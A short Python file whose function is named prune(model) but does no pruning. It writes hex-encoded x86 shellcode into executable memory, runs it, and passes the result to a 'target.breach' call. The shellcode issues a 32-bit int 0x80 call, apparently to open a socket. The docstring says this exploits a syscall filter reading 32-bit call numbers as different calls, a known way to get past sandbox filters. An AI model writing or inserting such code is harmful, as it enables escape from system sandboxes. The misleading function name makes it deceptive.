"""int 0x80: the table of 32-bit calls, whose numbers a filter reads as others. Who uses it dies."""

import ctypes
import mmap
import os

import target

SOCKET = "53 b867010000 bb02000000 b902000000 31d2 cd80 5b c3"


def prune(model):
    memory = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(bytes.fromhex(SOCKET) if os.uname().machine == "x86_64" else bytes(16))
    opened = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    if opened >= 0:
        target.breach(opened)
    return model
